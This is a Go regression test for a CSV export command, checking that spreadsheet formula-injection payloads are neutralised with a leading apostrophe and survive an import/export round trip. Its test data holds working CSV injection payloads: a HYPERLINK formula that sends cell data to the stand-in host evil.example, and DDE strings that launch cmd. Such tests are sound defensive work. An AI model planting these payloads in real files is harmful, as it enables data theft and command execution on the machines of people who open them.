package main

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// injections are the payloads of issue 15 and values around the escape rule:
// text that starts with = + - @ (after any apostrophes) and text that does not.
var injections = map[string]string{
	"notes":      `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	"actor1":     `+cmd|' /C calc'!A0`,
	"actor2":     `@SUM(1+1)*cmd|' /C calc'!A0`,
	"location":   `-2+3+cmd|' /C calc'!A0`,
	"admin2":     `'=already quoted`,
	"source":     `''-two apostrophes`,
	"tags":       `'plain apostrophe`,
	"event_type": "Riots",
}

// TestCSVExportNeutralisesFormulasAndRoundTrips: export --format csv wrote the
// payloads verbatim, so a spreadsheet opening the file ran them. Each text cell
// that starts with a formula character now starts with an apostrophe, and
// importing the file gives back exactly the stored values.
func TestCSVExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
	dir := t.TempDir()
	props := map[string]any{"event_id": "INJ-1", "event_date": "2021-05-08", "fatalities": 1}
	for k, v := range injections {
		props[k] = v
	}
	fc, _ := json.Marshal(map[string]any{"type": "FeatureCollection", "features": []any{map[string]any{
		"type": "Feature", "geometry": map[string]any{"type": "Point", "coordinates": []float64{-43.5, -33.25}},
		"properties": props}}})
	in := filepath.Join(dir, "in.geojson")
	if err := os.WriteFile(in, fc, 0o644); err != nil {
		t.Fatal(err)
	}
	src := filepath.Join(dir, "src.db")
	mustCLI(t, "import", "--db", src, in)
	csvFile := filepath.Join(dir, "out.csv")
	mustCLI(t, "export", "--db", src, "--format", "csv", "--out", csvFile)

	f, err := os.Open(csvFile)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(f).ReadAll()
	f.Close()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %d records, %v", len(recs), err)
	}
	cell := map[string]string{}
	for i, name := range recs[0] {
		cell[name] = recs[1][i]
	}
	want := map[string]string{
		"notes":      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"actor1":     `'+cmd|' /C calc'!A0`,
		"actor2":     `'@SUM(1+1)*cmd|' /C calc'!A0`,
		"location":   `'-2+3+cmd|' /C calc'!A0`,
		"admin2":     `''=already quoted`,
		"source":     `'''-two apostrophes`,
		"tags":       `'plain apostrophe`, // not formula-like: unchanged
		"event_type": "Riots",
		"latitude":   "-33.25", // numbers stay numbers
		"longitude":  "-43.5",
	}
	for k, v := range want {
		if cell[k] != v {
			t.Errorf("csv %s = %q, want %q", k, cell[k], v)
		}
	}
	for k, v := range cell {
		if v != "" && strings.ContainsRune("=+@\t\r", rune(v[0])) || (k != "latitude" && k != "longitude" && strings.HasPrefix(v, "-")) {
			t.Errorf("csv %s = %q starts with a formula character", k, v)
		}
	}

	// The round trip: import the CSV into a new database; the GeoJSON
	// exports of both databases are the same.
	dst := filepath.Join(dir, "dst.db")
	if out := mustCLI(t, "import", "--db", dst, csvFile); !strings.Contains(out, "1 inserted") {
		t.Fatalf("import of the csv: %s", out)
	}
	a, b := filepath.Join(dir, "a.geojson"), filepath.Join(dir, "b.geojson")
	mustCLI(t, "export", "--db", src, "--out", a)
	mustCLI(t, "export", "--db", dst, "--out", b)
	got, orig := features(t, b), features(t, a)
	if !reflect.DeepEqual(got, orig) {
		t.Fatalf("after the csv round trip:\n got %v\nwant %v", got, orig)
	}
	for k, v := range injections {
		if got[0]["properties"].(map[string]any)[k] != v {
			t.Errorf("%s stored as %q, want %q", k, got[0]["properties"].(map[string]any)[k], v)
		}
	}
	// And importing it into the source changes nothing.
	if out := mustCLI(t, "import", "--db", src, csvFile); !strings.Contains(out, "1 unchanged") {
		t.Fatalf("re-import into the source: %s", out)
	}
}
